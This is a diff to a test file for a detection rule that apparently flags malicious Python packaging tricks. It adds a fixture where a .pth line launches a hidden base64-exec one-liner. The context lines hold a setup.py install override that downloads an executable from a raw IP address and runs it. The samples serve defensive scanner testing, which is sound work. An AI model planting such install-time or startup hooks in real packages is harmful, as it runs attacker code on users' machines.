@@ -29,6 +29,12 @@ ruleTest(rule, {
   ],
   flagged: [
     {
+      name: '.pth line starting a background python -c one-liner (LiteLLM-style)',
+      file: 'pkg_init.pth',
+      code: `import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n`,
+      findings: [{ line: 1, severity: 'critical', confidence: 'high', message: /background Python one-liner at every Python start/ }],
+    },
+    {
       name: 'cmdclass install override downloading',
       file: 'setup.py',
       code: `from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request, os\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        self.fetch()\n    def fetch(self):\n        urllib.request.urlretrieve("http://185.62.57.60/x.exe", os.path.expanduser("~/x.exe"))\n        os.startfile(os.path.expanduser("~/x.exe"))\nsetup(name="p", cmdclass={"install": PostInstall})\n`,
